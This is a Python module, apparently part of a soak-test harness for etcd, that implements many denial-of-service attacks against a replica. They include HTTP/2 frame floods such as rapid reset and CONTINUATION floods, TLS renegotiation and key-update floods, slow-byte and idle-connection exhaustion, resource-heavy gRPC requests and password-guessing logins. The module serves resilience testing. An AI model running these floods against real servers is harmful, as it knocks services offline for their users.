"""What clients that mean harm do to a replica: one attack, until this process is ended. It says
"there" when it is at its height.

usage: python3 -m soak.attacks '{"attack": "pings", "host": "127.0.0.1", "port": 2379}'
"""
import contextlib
import ctypes
import itertools
import json
import os
import random
import resource
import select
import signal
import ssl
import struct
import sys
import threading
import time

from harness import h2
from harness.h2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING,
                        PRIORITIZED, PRIORITY, RST, SETTINGS, WINDOW, call, frame, headers, literal,
                        message, settings)
from harness.rpc import Refused, Rpc, pb

from soak import tls_raw
from soak.bed import certificate_of

RANGE, PUT, TXN = (b"/etcdserverpb.KV/" + name for name in (b"Range", b"Put", b"Txn"))
WATCH, LEASE = b"/etcdserverpb.Watch/Watch", b"/etcdserverpb.Lease/"
WIDE = settings((4, 0x7fffffff)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0")
DEAF = {"read": False, "receive": 4096, "hello": WIDE}
NARROW = {"n": 8, "hello": settings((4, 0))}
HTTP = {"hello": b"", "preface": b""}
NOT_YET = BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError
BIG = pb.RangeRequest(key=b"big/", range_end=b"big0")


def tls_context(certificate):
    context = h2.tls_context(certificate.authority)
    context.load_cert_chain(certificate.cert, certificate.key)
    return context


def sent(request, stream=1):
    return frame(DATA, 0, stream, message(request.SerializeToString()))


def begun(path, stream=1, more=b"", flags=END_HEADERS):
    return frame(HEADERS, flags, stream, headers(path) + more)


def begun_after(before, i):
    return frame(HEADERS, END_HEADERS | PRIORITIZED, 1 + 2 * i, before + headers(WATCH))


def create(key, **more):
    return pb.WatchRequest(create_request=pb.WatchCreateRequest(key=key, **more))


def streams(each, at_once=200):
    """each(stream) for one stream after the other, so many in one breath."""
    return lambda: (b"".join(each(1 + 2 * i) for i in range(first, first + at_once))
                    for first in itertools.count(0, at_once))


def calls(path, request=None, after=b"", **how):
    body = request.SerializeToString() if request else b""
    return streams(lambda i: call(i, path, body) + (frame(RST, 0, i, after) if after else b""),
                   **how)


def below(stream):
    return struct.pack(">IB", stream, 16)


def costly(*more):
    """A transaction that looks at as many keys as one may, and sorts them. Of more it would be
    refused, at no cost."""
    look = pb.RangeRequest(key=b"many/3", range_end=b"many/6", limit=1,
                           sort_target=pb.RangeRequest.VALUE, sort_order=pb.RangeRequest.DESCEND)
    return pb.TxnRequest(success=[pb.RequestOp(request_range=look), *more])


def one_byte_windows():
    yield from itertools.islice(calls(RANGE, BIG)(), 10)
    yield from itertools.repeat(b"".join(frame(WINDOW, 0, 1 + 2 * i, b"\0\0\0\1")
                                         for i in range(2000)))


def half(path, n):
    """The first @n pieces of a message of 1.5 MB."""
    return streams(lambda i: begun(path, i) + frame(DATA, 0, i, b"\0\0\x17\0\0" + b"x" * 16000)
                   + frame(DATA, 0, i, b"x" * 16000) * (n - 1), 50)


def garbage(r=random.Random(1)):
    return b"".join(frame(r.randrange(12), r.randrange(256), r.randrange(8),
                          r.randbytes(r.randrange(64))) for _ in range(1000))


def flood(more, first=b"", **how):
    """@more: what is sent without end; @first: on each connection before that."""
    return more, first, how


# What makes a server go through all streams of a connection comes on one that has many.
CROWDED = b"".join(begun(WATCH, 1 + 2 * i) for i in range(7000))
FLOODS = {
    "empty_data": flood(frame(DATA, 0, 1) * 20000, begun(WATCH)),
    "pings": flood(frame(PING, 0, 0, b"x" * 8) * 10000),
    "settings": flood(frame(SETTINGS, 0, 0, b"\0\1\0\0\x10\0") * 10000),
    "window_updates": flood(frame(WINDOW, 0, 0, b"\0\0\0\1") * 10000),
    "priorities": flood(b"".join(frame(PRIORITY, 0, 1 + 2 * i, b"\0\0\0\0\x10")
                                 for i in range(10000))),
    "unknown_frames": flood(frame(0x60, 0, 0, b"nothing") * 20000),
    "frames_of_the_past": flood(frame(DATA, 0, 1) * 20000,
                                begun(WATCH) + frame(RST, 0, 1, b"\0\0\0\x08")),
    "settings_of_all_streams": flood(b"".join(settings((4, 65535 + (i & 1))) for i in range(500)),
                                     CROWDED),
    "goodbyes": flood(frame(GOAWAY, 0, 0, b"\x7f\xff\xff\xfe" + bytes(4)) * 500, CROWDED),
    # Each stream depends on the one before; then, which is the last of them is asked all the time.
    "tall_trees": flood(
        b"".join(frame(PRIORITY, 0, 2 * 6998 - 1 - 2 * (i & 1), below(2 * 6999 + 1))
                 for i in range(500)),
        b"".join(begun_after(below(max(2 * i - 1, 0)), i) for i in range(7000))),
    "rapid_reset": flood(calls(RANGE, BIG, after=b"\0\0\0\x08")),  # CVE-2023-44487
    "continuations": flood(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100) * 20,
                           begun(RANGE, flags=0)),  # CVE-2024-27316
    "header_references": flood(
        lambda: (b"".join(begun(RANGE, 1 + 2 * i, b"\xbe" * 15000, END_HEADERS | END_STREAM)
                          for i in range(first, first + 20)) for first in itertools.count(1, 20)),
        begun(RANGE, more=literal(b"token", b"t" * 3900, 0x40))),
    "small_calls": flood(calls(b"/etcdserverpb.KV/Nothing")),
    "renewals": flood(sent(pb.LeaseKeepAliveRequest(ID=1)) * 5000,
                      begun(LEASE + b"LeaseKeepAlive")),
    "garbage": flood(garbage()),
    "costly_txns": flood(calls(TXN, costly(pb.RequestOp(request_put=pb.PutRequest(
        key=b"costly", value=b"x")))), n=8),
    # As many as there may be at once, which one word of the majority lets go on.
    "costly_reads": flood(calls(TXN, costly()), n=8),
    "hashes": flood(calls(b"/etcdserverpb.Maintenance/HashKV")),  # of all keys: many slices each
    # Requests one behind the other, without a look at an answer.
    "http_flood": flood(b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n" * 200, **HTTP),
    # Reads of 1 MiB as JSON, pipelined, on connections that read them.
    "http_reads": flood(b"POST /v3/kv/range HTTP/1.1\r\nHost: x\r\nContent-Length: 41\r\n\r\n"
                        b'{"key":"YmlnLw==","range_end":"YmlnMA=="}' * 10, **HTTP),
    # JSON that nests, in bodies that never end; each is refused, and another one comes.
    "http_bodies": flood(b'{"success":[{"request_txn":' * 1000, b"POST /v3/kv/txn HTTP/1.1\r\n"
                         b"Host: x\r\nTransfer-Encoding: chunked\r\n\r\n8000\r\n", n=8, **HTTP),
    "unread_ranges": flood(calls(RANGE, BIG), n=8, **DEAF),
    "zero_windows": flood(calls(RANGE, BIG), **NARROW),
    "one_byte_windows": flood(one_byte_windows, **NARROW),
    "large_answers_to_writes": flood(calls(PUT, pb.PutRequest(
        key=b"big/0", value=b"x" * 60000, prev_kv=True), at_once=50),
        **{**DEAF, "hello": settings((4, 0x7fffffff))}),
    "half_messages": flood(half(PUT, 4), n=8),
    "half_watches": flood(half(WATCH, 1), n=8),
    "refused_watches": flood(sent(create(b"x", watch_id=7)) * 5000, begun(WATCH), read=False,
                             receive=4096),
    "reads": flood(calls(RANGE, pb.RangeRequest(key=b"many/0/0")), n=8),
    "logins": flood(calls(b"/etcdserverpb.Auth/Authenticate", pb.AuthenticateRequest(
        name="root", password="guess"), at_once=20), n=1),
}

# Ways to ask once for much: 1 MB below big/, or 1.4 MB.
ALL = pb.RangeRequest(key=b"unread/", range_end=b"unread0")
ONE = pb.RangeRequest(key=b"unread-one")
RANGE_ONE, RANGE_ALL = pb.RequestOp(request_range=ONE), pb.RequestOp(request_range=ALL)
WRITE = pb.RequestOp(request_put=pb.PutRequest(key=b"unread-put", value=b"x"))


def of_lease(n):
    return LEASE + b"LeaseTimeToLive", pb.LeaseTimeToLiveRequest(ID=n, keys=True)


UNREAD = {
    "unread_by_many": (RANGE, BIG),
    "unread_txns_of_many": (TXN, pb.TxnRequest(success=[pb.RequestOp(request_range=BIG)])),
}
CROWDS = {
    "ranges of 20 keys": (RANGE, ALL),
    "ranges of one key": (RANGE, ONE),
    "ranges in parts": (b"/etcdserverpb.KV/RangeStream", ONE),
    "transactions": (TXN, pb.TxnRequest(success=[RANGE_ONE])),
    "transactions that write": (TXN, pb.TxnRequest(success=[RANGE_ALL, WRITE])),
    "leaders of an election": (b"/v3electionpb.Election/Leader",
                               pb.LeaderRequest(name=b"unread-election")),
    "snapshots": (b"/etcdserverpb.Maintenance/Snapshot", pb.SnapshotRequest()),
    "keys of a lease": of_lease(1), "large keys of a lease": of_lease(2),
    "many keys of a lease": of_lease(3),
    "leases": (LEASE + b"LeaseLeases", pb.LeaseLeasesRequest()),
}


def received(s):
    """b"" at the end, whatever it is."""
    try:
        return s.recv(1 << 16)
    except OSError:
        return b""


def aside(work, *given):
    threading.Thread(target=work, args=given, daemon=True).start()


def there():
    print("there", flush=True)


def drain(s):
    aside(lambda: [None for _ in iter(lambda: received(s), b"")])


class Attacker:
    """@source: the address that it has, or None."""

    def __init__(self, host, port, source=None, certificate=None):
        self.host, self.port, self.source, self.certificate = host, port, source, certificate
        self.tls = certificate and tls_context(certificate)

    def connect(self, **how):
        while True:
            try:
                return h2.connect(self.port, self.tls, self.host, self.source, **how)
            except OSError:
                time.sleep(0.02)

    def rpc(self):
        return Rpc(f"x://{self.host}:{self.port}", certificate=self.certificate)

    def flood(self, more, first, n=4, read=True, **how):
        """Keeps @n connections full of @more: bytes, or what makes an iterator of them. Begins anew
        when one is ended."""
        said = {}

        def begin():
            s = self.connect(**how)
            s.setblocking(False)
            said[s] = [first, itertools.repeat(more) if isinstance(more, bytes) else more()]

        for _ in range(n):
            begin()
        there()
        while True:
            full, free, _ = select.select([*said] if read else [], [*said], [], 1)
            for s in {*full, *free}:
                try:
                    if s in full and not s.recv(1 << 18):
                        raise ConnectionError
                    if s in free:
                        left = said[s][0] = said[s][0] or next(said[s][1])
                        said[s][0] = left[s.send(left):]
                except NOT_YET:
                    pass
                except OSError:
                    said.pop(s)
                    s.close()
                    begin()

    def ask_for_ever(self, path, body):
        """By gRPC's own hand, which minds the windows."""
        def work():
            with self.rpc() as rpc:
                while True:
                    with contextlib.suppress(Refused):
                        rpc.send_bytes(path, body)

        for _ in range(8):
            aside(work)
        there()
        signal.pause()

    def deep_messages(self):
        body = b""
        while len(body) < 74000:  # a transaction in a transaction in a transaction
            for tag in (4, 2):
                body = bytes([tag << 3 | 2]) + varint(len(body)) + body
        self.ask_for_ever("etcdserverpb.KV/Txn", body)

    def lease_lists(self):
        with self.rpc() as rpc:
            grants = [rpc.future("etcdserverpb.Lease/LeaseGrant", pb.LeaseGrantRequest(TTL=20))
                      for _ in range(20000)]
            for grant in grants:
                grant.exception()
        self.ask_for_ever("etcdserverpb.Lease/LeaseLeases", b"")

    def lock_crowds(self):
        """6,000 wait for a lock, while somebody deletes and compacts in one breath, so that it may
        be anybody's turn."""
        crowd, lock = self.connect(), pb.LockRequest(name=b"crowd").SerializeToString()
        crowd.setblocking(True)
        crowd.sendall(b"".join(call(1 + 2 * i, b"/v3lockpb.Lock/Lock", lock) for i in range(6000)))
        drain(crowd)
        there()
        with self.rpc() as rpc:
            while True:
                with contextlib.suppress(Refused):
                    put = rpc.call("etcdserverpb.KV/Put", pb.PutRequest(key=b"crowded"))
                    both = [rpc.future("etcdserverpb.KV/DeleteRange",
                                       pb.DeleteRangeRequest(key=b"crowded")),
                            rpc.future("etcdserverpb.KV/Compact",
                                       pb.CompactionRequest(revision=put.header.revision + 1))]
                    for asked in both:
                        asked.exception()

    def watches(self, n=25000):
        """200,000 of keys that nobody writes, and of ranges beside them."""
        made = [self.rpc().stream("etcdserverpb.Watch/Watch", pb.WatchRequest) for _ in range(8)]
        for at, stream in enumerate(made):
            for i in range(n):
                key = b"watched/%d/%d" % (at, i)
                stream.send(create(key, range_end=b"" if i % 4 else key + b"0"))
        for stream in made:
            for _ in range(n):
                stream.next()
        there()
        signal.pause()

    def old_values(self):
        """Deletes at once what is large, before watches that want what was there and read nothing
        of it."""
        kept = [self.connect(receive=4096, hello=WIDE) for _ in range(8)]
        for s in kept:
            s.sendall(begun(WATCH) + sent(create(b"old/", range_end=b"old0", prev_kv=True)))
        there()
        with self.rpc() as rpc:
            while True:
                with contextlib.suppress(Refused):
                    for i in range(32):
                        rpc.call("etcdserverpb.KV/Put",
                                 pb.PutRequest(key=b"old/%d" % i, value=bytes(1 << 20)))
                    gone = rpc.call("etcdserverpb.KV/DeleteRange",
                                    pb.DeleteRangeRequest(key=b"old/", range_end=b"old0"))
                    time.sleep(1)
                    rpc.call("etcdserverpb.KV/Compact",
                             pb.CompactionRequest(revision=gone.header.revision))

    def unread(self, path, request, n):
        """@n connections that each ask once and read nothing. Who is ended comes again."""
        poll, kept, asked = select.poll(), {}, call(1, path, request.SerializeToString())

        def begin():
            s = self.connect(receive=4096, hello=WIDE)
            with contextlib.suppress(OSError):
                s.sendall(asked)
            kept[s.fileno()] = s
            poll.register(s, select.POLLRDHUP)

        for _ in range(n):
            begin()
        there()
        while True:
            for fd, _ in poll.poll():
                poll.unregister(fd)
                kept.pop(fd).close()
                time.sleep(0.001)
                begin()

    def keeps_all_it_can(self):
        """All the watches and observers that it is given: of large keys, so that it does not take
        long. Some of both are refused."""
        rpc, n = self.rpc(), 2200
        stream = rpc.stream("etcdserverpb.Watch/Watch", pb.WatchRequest)
        for i in range(n):
            stream.send(create(b"%06d" % i + b"x" * (256 << 10)))
        assert 0 < sum(stream.next().canceled for _ in range(n)) < n
        refused = threading.Event()

        def observe(i):
            try:
                next(rpc.answers("v3electionpb.Election/Observe", pb.LeaderRequest(
                    name=b"%06d" % i + b"y" * (1400 << 10))))
            except Refused:
                refused.set()

        for i in range(250):
            aside(observe, i)
        refused.wait()
        there()
        signal.pause()

    # -- what costs connections --

    def idle(self):
        kept = [self.connect() for _ in range(4000)]
        there()
        signal.pause()
        del kept

    def come_and_go(self):
        there()
        while True:
            self.connect().close()

    def slow_bytes(self):
        said = call(1, RANGE, b"\x0a\x01x")
        kept = [self.connect(hello=b"") for _ in range(500)]
        there()
        for i in itertools.count():
            for s in kept:
                with contextlib.suppress(OSError):
                    s.send(said[i % len(said):][:1])
            time.sleep(1)

    # -- what only TLS has --

    def renegotiations(self):
        """Asks for another handshake in TLS 1.2 without end. Each is refused, by a word that costs
        more than to ask for it."""
        while True:
            with contextlib.suppress(OSError):
                client = tls_raw.ByHand((self.host, self.port), self.certificate)
                drain(client.socket)
                said = client.handshakes(20000)
                there()
                with contextlib.suppress(OSError):
                    client.socket.sendall(said)
                client.close()

    def key_updates(self):
        """New keys without end (RFC 8446, 4.6.3): none of it is a byte for who reads."""
        tls, out = tls_raw.tls, ctypes.create_string_buffer(1 << 22)
        while True:
            client = tls_raw.Connection((self.host, self.port), self.certificate)
            batch = tls_raw.Pointer(tls.BIO_new(tls_raw.Pointer(tls.BIO_s_mem())))
            tls.SSL_set0_wbio(client.ssl, batch)
            with contextlib.suppress(OSError):
                while True:  # many at once: the replica finds them in its socket
                    for _ in range(20000):
                        tls.SSL_key_update(client.ssl, 0)
                        tls.SSL_do_handshake(client.ssl)
                    there()
                    client.socket.sendall(out.raw[:tls.BIO_read(batch, out, len(out))])
            client.close()


def varint(n):
    return (bytes([n & 127 | 128]) + varint(n >> 7)) if n > 127 else bytes([n])


BY_HAND = ["deep_messages", "lease_lists", "lock_crowds", "watches", "old_values",
           "keeps_all_it_can", "idle", "come_and_go", "slow_bytes"]
OF_TLS = ["key_updates", "renegotiations"]
PLAIN = [name for name in [*FLOODS, *UNREAD, *BY_HAND] if name not in ("reads", "logins")]
# That leave the keys alone, and are at their height at once.
MILD = [name for name in PLAIN if name not in (
    "costly_txns", "large_answers_to_writes", "watches", "old_values", "lease_lists",
    "lock_crowds", "keeps_all_it_can")]


def main(attack, host, port, source=None, files=None):
    os.nice(10)  # an attacker has a machine of its own; here it takes what the replicas leave
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attacker = Attacker(host, port, source, certificate_of(files))
    while True:
        with contextlib.suppress(OSError, Refused):  # which may be the end of a replica
            if attack in UNREAD:
                attacker.unread(*UNREAD[attack], 450)
            elif attack in CROWDS:
                attacker.unread(*CROWDS[attack], 1000)
            elif attack in FLOODS:
                more, first, how = FLOODS[attack]
                attacker.flood(more, first, **how)
            else:
                getattr(attacker, attack)()


if __name__ == "__main__":
    main(**json.loads(sys.argv[1]))
